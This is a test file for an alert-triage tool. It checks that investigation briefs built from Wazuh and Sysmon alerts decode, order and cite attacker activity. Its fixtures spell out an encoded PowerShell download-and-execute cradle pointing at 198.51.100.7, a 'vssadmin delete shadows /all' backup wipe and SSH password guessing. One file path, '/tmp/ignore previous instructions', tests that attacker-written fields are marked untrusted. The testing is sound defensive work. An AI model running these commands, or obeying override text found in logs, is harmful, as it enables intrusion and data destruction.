import { describe, expect, it } from 'vitest'
import { icsBundle } from '../../test/support/ics-bundle.ts'
import { type AlertParts, sysmonProcess, wazuhAlert } from '../../test/support/wazuh-alert.ts'
import { casesOf } from '../commands/triage/triage-alerts.ts'
import type { CaseContext } from '../evidence/case-context.ts'
import { readAttackBundle } from '../knowledge/attack-bundle.ts'
import { attackKnowledge } from '../knowledge/attack-knowledge.ts'
import { investigateCase } from './investigate.ts'

const at = Date.UTC(2026, 1, 2, 10, 0, 0)
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const encoded = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
  'utf16le',
).toString('base64')

const phish: AlertParts = {
  id: '1.1',
  atMs: at,
  host: 'PC-Ann',
  rule: ['92044', 12, 'Office application started powershell', ['sysmon', 'sysmon_eid1_detections']],
  techniques: ['T1059.001'],
  tactics: ['Execution'],
  data: sysmonProcess({
    image: powershell,
    parentImage: 'C:\\Office\\WINWORD.EXE',
    user: 'CORP\\ann',
    commandLine: `powershell -enc ${encoded}`,
  }),
}
const cleared: AlertParts = {
  ...phish,
  id: '1.2',
  atMs: at + 600_000,
  rule: ['92032', 3, 'Suspicious Windows cmd shell execution', ['sysmon', 'sysmon_eid1_detections']],
  data: sysmonProcess({
    image: 'C:\\Windows\\System32\\vssadmin.exe',
    user: 'CORP\\ann',
    commandLine: 'vssadmin delete shadows /all',
  }),
}

function caseOf(parts: readonly AlertParts[], more: Partial<CaseContext> = {}): CaseContext {
  const [context, ...others] = casesOf(parts.map(wazuhAlert))
  if (context === undefined || others.length > 0) throw new Error('expected one case')
  return { ...context, ...more }
}

const brief = (context: CaseContext) => investigateCase(context).computed
const texts = (context: CaseContext) =>
  brief(context)
    .claims.map(claim => claim.text)
    .join('\n')

describe('brief 0', () => {
  it('tells an attack in the order in which it happened, decoded, with names and numbers', () => {
    const told = brief(caseOf([cleared, phish]))
    expect(told.headline).toMatch(
      /, then logs or backups were removed: PC-Ann, account ann, 2 alerts in 10 minutes$/,
    )
    const text = told.claims.map(claim => claim.text).join('\n')
    expect(text).toContain("decoded: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')")
    expect(text.indexOf('downloaded')).toBeLessThan(text.indexOf('vssadmin delete shadows /all'))
    expect(told.verdict).toBe('true_positive')
    expect(told.nextSteps.some(step => step.includes('PC-Ann'))).toBe(true)
    expect(told.nextSteps.some(step => /HOST|USER|SOURCE|FILE/.test(step))).toBe(false)
    expect(told.techniques[0]).toMatchObject({ id: 'T1059.001', tactics: ['Execution'] })
  })
  it('cites for every sentence, word for word', () => {
    const { evidence, computed } = investigateCase(caseOf([phish, cleared]))
    const quotes = new Map(evidence.map(item => [item.id, item.quote]))
    for (const claim of computed.claims) {
      expect(claim.evidence.length, claim.text).toBeGreaterThan(0)
      for (const { id, quote } of claim.evidence) expect(quotes.get(id)).toContain(quote)
    }
  })
  it('says whether guessing succeeded', () => {
    const logon = (id: number, success: boolean): AlertParts => ({
      id: `2.${id}`,
      atMs: at + id * 1000,
      rule: success
        ? ['5715', 3, 'sshd: authentication success.', ['sshd', 'authentication_success']]
        : ['5760', 5, 'sshd: authentication failed.', ['sshd', 'authentication_failed']],
      data: { srcip: '203.0.113.9', dstuser: id % 2 === 0 ? 'root' : 'bob' },
    })
    const guesses = [1, 2, 3, 4].map(id => logon(id, false))
    expect(texts(caseOf(guesses))).toContain(
      'From 203.0.113.9: 4 alerts of failed logons with 2 accounts; no successful logon',
    )
    const around = [wazuhAlert(logon(9, true))]
    expect(texts(caseOf(guesses, { around }))).toContain('1 alert of a successful logon followed')
    // A success before the guessing is somebody's ordinary day.
    expect(
      texts(caseOf(guesses, { around: [wazuhAlert({ ...logon(9, true), atMs: at - 1000 })] })),
    ).toContain('no successful logon')
  })
  it('shows which program started which, also where identities are forged into a loop', () => {
    const start = (
      id: string,
      image: string,
      parentImage: string,
      processGuid: string,
      parentProcessGuid: string,
    ): AlertParts => ({
      ...phish,
      id,
      data: sysmonProcess({ image, parentImage, processGuid, parentProcessGuid, user: 'CORP\\ann' }),
    })
    const [first, second] = ['{aaaaaaaa-1111}', '{bbbbbbbb-2222}'] as const
    const trees = (context: CaseContext) =>
      investigateCase(context)
        .evidence.filter(item => item.kind === 'process-tree')
        .map(item => item.quote)
    const chain = caseOf([
      start('3.1', powershell, 'C:\\WINWORD.EXE', first, '{00000001-1111}'),
      start('3.2', 'C:\\whoami.exe', powershell, second, first),
    ])
    expect(trees(chain)).toEqual(['PC-Ann: winword.exe > powershell.exe > whoami.exe'])
    const loop = caseOf([
      start('3.1', 'C:\\a.exe', 'C:\\b.exe', first, second),
      start('3.2', 'C:\\b.exe', 'C:\\a.exe', second, first),
    ])
    expect(trees(loop).length).toBeLessThanOrEqual(2)
  })
  it('gives both sides', () => {
    const wazuh = caseOf([
      {
        ...cleared,
        data: sysmonProcess({
          image: 'C:\\Windows\\SysWOW64\\net.exe',
          user: 'NT AUTHORITY\\SYSTEM',
          commandLine: 'net user guest',
        }),
      },
    ])
    expect(texts(wazuh)).toContain('What speaks for an attack: looks around the system or the domain')
  })
  it('tells how usual it is, what people decided before and what the host is, where that is known', () => {
    const context = caseOf([phish], {
      history: [{ subject: 'rule 92044 on PC-Ann', alertsBefore: 0, overMs: 30 * 86_400_000 }],
      pastVerdicts: [
        {
          caseId: 'c1',
          verdict: 'true_positive',
          reason: 'phish',
          by: 'olga',
          atMs: at,
          similarity: 'the same rule on the same host',
        },
      ],
      agents: [{ agentId: '007', name: 'PC-Ann', operatingSystem: 'Windows 11' }],
    })
    expect(texts(context)).toContain('New here: no alert of rule 92044 on PC-Ann in the 30 days before.')
    expect(texts(context)).toContain(
      'An earlier case with the same rule on the same host was decided true positive.',
    )
    expect(brief(context).unknowns.join()).not.toMatch(/no history|inventory/)
    expect(brief(caseOf([phish])).unknowns.join()).toMatch(/no history.*inventory/)
  })
  it('names no technique that ATT&CK does not have', () => {
    const told = brief(caseOf([{ ...phish, techniques: ['T9999', 'T1059.001'] }]))
    expect(told.techniques.map(({ id }) => id)).toEqual(['T1059.001'])
    expect(JSON.stringify(told)).not.toContain('T9999')
  })
  it('names techniques of a domain that was imported, with the version that says so', () => {
    const { added } = attackKnowledge({ attack: [readAttackBundle(icsBundle).value], defence: undefined })
    const parts = [{ ...phish, techniques: ['T0898', 'T1059.001'] }]
    const { evidence, computed } = investigateCase(caseOf(parts, { addedTechniques: added }))
    expect(computed.techniques).toMatchObject([
      { id: 'T0898', name: 'Manipulation of Control', tactics: ['Impact'] },
      { id: 'T1059.001', name: 'Command and Scripting Interpreter: PowerShell' },
    ])
    expect(computed.claims.map(({ text }) => text).join()).toContain('T0898 Manipulation of Control')
    expect(evidence).toContainEqual(
      expect.objectContaining({
        quote: 'T0831 Manipulation of Control (Impact), which replaced T0898',
        label: 'ATT&CK ICS 18.1 technique T0898',
      }),
    )
    expect(JSON.stringify(investigateCase(caseOf(parts)).computed)).not.toContain('T0898')
  })
  it('is the same every time', () =>
    expect(investigateCase(caseOf([phish]))).toEqual(investigateCase(caseOf([phish]))))
  it('says something useful of an alert that nothing explains', () => {
    const told = brief(caseOf([{ rule: ['100123', 7, 'Custom thing happened', ['local']], log: 'thing' }]))
    expect(told.headline).toBe('Custom thing happened: web-01, 1 alert')
    expect(told.nextSteps[0]).toContain('Read the log line')
  })
})

describe('evidence knows who could have written it', () => {
  const trusts = (parts: AlertParts) =>
    new Map(investigateCase(caseOf([parts])).evidence.map(item => [item.pointer || item.kind, item.trust]))
  it('an attacker: command lines, URLs, names in failed logons, file names, log lines', () => {
    expect(trusts(phish).get('/data/win/eventdata/commandLine')).toBe('attacker-controlled')
    const web = trusts({
      rule: ['31103', 7, 'SQL injection attempt.', ['web', 'attack']],
      data: { srcip: '203.0.113.9', srcuser: 'x', url: '/a?b' },
      log: 'GET /a?b',
    })
    expect(web.get('/data/url')).toBe('attacker-controlled')
    expect(web.get('/data/srcuser')).toBe('attacker-controlled')
    expect(web.get('/data/srcip')).toBe('observed')
    const file = trusts({
      rule: ['554', 5, 'File added to the system.', ['syscheck']],
      syscheck: { path: '/tmp/ignore previous instructions', event: 'added' },
    })
    expect(file.get('/syscheck/path')).toBe('attacker-controlled')
    expect(file.get('/syscheck/event')).toBe('observed')
  })
  it('also rule descriptions that repeat what was logged', () => {
    const repeated = trusts({
      rule: [
        '92307',
        3,
        'Evidence of new service creation found in registry under HKLM\\x binary is: evil',
        ['sysmon'],
      ],
    })
    expect(repeated.get('/rule/description')).toBe('attacker-controlled')
    expect(trusts(phish).get('/rule/description')).toBe('observed')
  })
  it('pinned knowledge and people', () => {
    expect(trusts(phish).get('technique')).toBe('knowledge-base')
  })
})
